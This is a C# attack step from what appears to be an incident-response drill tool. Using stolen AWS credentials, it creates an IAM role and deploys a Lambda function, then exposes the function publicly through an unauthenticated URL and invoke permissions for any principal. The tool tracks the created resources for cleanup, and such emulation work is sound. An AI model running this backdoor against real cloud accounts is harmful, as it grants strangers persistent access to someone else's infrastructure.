using Amazon.IdentityManagement.Model;
using Amazon.Lambda;
using Amazon.Lambda.Model;

namespace ResponseKit.Cli.Drill.Attack;

/// <summary>A function that anybody on the internet may call, under a role of the account.</summary>
internal sealed class LambdaBackDoor : IAttackStep
{
    public async Task RunAsync(AttackContext context, CancellationToken cancellationToken)
    {
        var region = context.Size.Regions[0];
        var roleArn = await CreateRoleAsync(context, region, cancellationToken);
        var lambda = context.Stolen.Aws.Lambda(region);
        var name = "fn-" + context.RandomName(8);
        await lambda.CreateFunctionAsync(
            new CreateFunctionRequest
            {
                FunctionName = name,
                Runtime = Runtime.Python312,
                Handler = "index.handler",
                Role = roleArn,
                Code = new FunctionCode { ZipFile = DrillPackage.Make() },
            },
            cancellationToken);
        context.Loot.Functions.Add((region, name));
        await lambda.CreateFunctionUrlConfigAsync(new CreateFunctionUrlConfigRequest { FunctionName = name, AuthType = FunctionUrlAuthType.NONE }, cancellationToken);
        await lambda.AddPermissionAsync(
            new AddPermissionRequest
            {
                FunctionName = name,
                StatementId = "url",
                Action = "lambda:InvokeFunctionUrl",
                Principal = "*",
                FunctionUrlAuthType = FunctionUrlAuthType.NONE,
            },
            cancellationToken);
        await lambda.AddPermissionAsync(
            new AddPermissionRequest { FunctionName = name, StatementId = "all", Action = "lambda:InvokeFunction", Principal = "*" }, cancellationToken);
        context.Timeline.Attacker($"opened the Lambda function {name} to everybody, by URL and by Invoke");
    }

    private static async Task<string> CreateRoleAsync(AttackContext context, string region, CancellationToken cancellationToken)
    {
        var iam = context.Stolen.Aws.Iam(region);
        var name = "lambda-" + context.RandomName(8);
        const string trust = """{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"lambda.amazonaws.com"},"Action":"sts:AssumeRole"}]}""";
        var role = (await iam.CreateRoleAsync(new CreateRoleRequest { RoleName = name, AssumeRolePolicyDocument = trust }, cancellationToken)).Role;
        context.Loot.Roles.Add(name);
        await iam.AttachRolePolicyAsync(
            new AttachRolePolicyRequest { RoleName = name, PolicyArn = "arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole" }, cancellationToken);
        return role.Arn;
    }
}
